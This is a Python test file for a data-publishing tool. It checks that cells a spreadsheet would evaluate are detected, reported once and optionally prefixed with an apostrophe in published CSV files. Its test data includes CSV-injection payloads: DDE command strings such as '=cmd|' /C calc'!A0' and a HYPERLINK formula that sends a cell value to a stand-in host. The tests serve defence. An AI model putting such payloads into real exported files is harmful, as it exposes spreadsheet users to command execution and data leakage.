"""Cells that a spreadsheet would evaluate: told once, kept or prefixed, and the same bytes each time."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import duckdb
import openpyxl
import pyarrow.parquet as pq
import pytest

from aqueduc.validate.formulas import build_formula_prefix_sql, build_formula_test_sql
from tests.adversary.town import Town, found_town

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|'x'!A1",
    "-2+3+cmd|'x'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1",
    "＝1+1",
    '=HYPERLINK("http://x.example/?"&A1;"voir")',
    "- pain",
    "-",
    "+33 (0)4 42",
)
PLAIN = (
    "",
    "12",
    "-12",
    "+33442919000",
    "-1 234,50",
    "-12,5 %",
    "a=b",
    " =1+1",
    "École",
    "'=1+1",
    "2026-01-01",
    "1-2",
)


@pytest.fixture
def town(tmp_path: Path) -> Town:
    return found_town(tmp_path)


def asked(expression: str, cell: str):
    with duckdb.connect() as con:
        return con.execute(f"SELECT {expression} FROM (SELECT ?::VARCHAR AS x)", [cell]).fetchone()[0]


@pytest.mark.parametrize("cell", FORMULAS)
def test_what_a_spreadsheet_may_evaluate_is_a_formula(cell):
    assert asked(build_formula_test_sql("x"), cell) is True
    assert asked(build_formula_prefix_sql("x"), cell) == f"'{cell}"


@pytest.mark.parametrize("cell", PLAIN)
def test_what_it_shows_as_it_is_is_none(cell):
    assert asked(build_formula_test_sql("x"), cell) is False
    assert asked(build_formula_prefix_sql("x"), cell) == cell


def declare(town: Town, **publish):
    formats = {"mode": "upload", "formats": ["csv", "parquet", "xlsx"], **publish}
    fields = [{"name": "nom"}, {"name": "note"}, {"name": "solde", "type": "integer"}]
    town.declare(columns=dict.fromkeys(("nom", "note", "solde"), "publish"), fields=fields, publish=formats)
    town.file(
        [
            {"nom": "=1+1", "note": "- fermé", "solde": "-12"},
            {"nom": "École", "note": "+ accueil", "solde": "-3"},
            {"nom": "Stade", "note": "-12", "solde": "4"},
        ]
    )


def findings(town: Town):
    """Of the only validation."""
    (path,) = (town.desk.include.parent / "store").rglob("validate.json")
    return json.loads(path.read_text("utf-8"))["findings"]


@pytest.mark.parametrize(
    "publish, code", [({}, "formules"), ({"formulas": "prefix"}, "formules-apostrophees")]
)
def test_it_is_told_once_with_how_many_and_which_columns_and_no_cell(town, publish, code):
    declare(town, **publish)
    town.run()
    told = [finding for finding in findings(town) if finding["code"].startswith("formules")]
    assert [finding["code"] for finding in told] == [code]
    assert told[0]["message"].startswith("3 cellules dans le CSV")
    assert "« nom », « note »" in told[0]["message"] and "solde" not in told[0]["message"]
    assert "fermé" not in str(told) and "=1+1" not in str(told)
    assert "{" not in told[0]["remedy"].replace("{formulas: prefix}", "")


def files(town: Town) -> dict[str, bytes]:
    return {path.suffix: path.read_bytes() for path in (town.portal / "jeux/jeu").glob("jeu.*")}


def test_by_default_cells_are_published_as_they_are(town):
    declare(town)
    town.run()
    assert [row["nom"] for row in town.published()] == ["=1+1", "Stade", "École"]


def test_prefixed_cells_are_so_in_the_csv_alone_the_same_bytes_twice_and_read_back(town):
    declare(town, formulas="prefix")
    certificate = town.run()
    made = files(town)
    rows = list(csv.DictReader(io.StringIO(made[".csv"].decode())))
    assert rows == [
        {"nom": "'=1+1", "note": "'- fermé", "solde": "-12"},
        {"nom": "Stade", "note": "-12", "solde": "4"},
        {"nom": "École", "note": "'+ accueil", "solde": "-3"},
    ]
    assert pq.read_table(io.BytesIO(made[".parquet"])).column("nom").to_pylist() == ["=1+1", "Stade", "École"]
    town.run()
    assert files(town) == made
    assert certificate["dataset"] == "jeu"


def test_a_workbook_holds_texts_that_no_spreadsheet_evaluates(town):
    declare(town)
    town.run()
    sheet = openpyxl.load_workbook(io.BytesIO(files(town)[".xlsx"])).active
    cells = [
        cell
        for row in sheet.iter_rows(min_row=2)
        for cell in row
        if str(cell.value).startswith(("=", "+", "- "))
    ]
    assert len(cells) == 3 and {cell.data_type for cell in cells} <= {"s", "inlineStr"}


def test_nothing_is_told_of_what_is_no_csv(town):
    declare(town, formats=["parquet"])
    town.run()
    assert not [finding for finding in findings(town) if finding["code"].startswith("formules")]


def test_the_citizen_is_told_of_the_apostrophe(town):
    from aqueduc.record.preparation import build_preparation_text_for_citizens

    declare(town, formulas="prefix")
    assert "une apostrophe précède" in build_preparation_text_for_citizens(
        town.dataset(), rejected=0, suppressed=0
    )
    declare(town)
    assert "apostrophe" not in build_preparation_text_for_citizens(town.dataset(), rejected=0, suppressed=0)
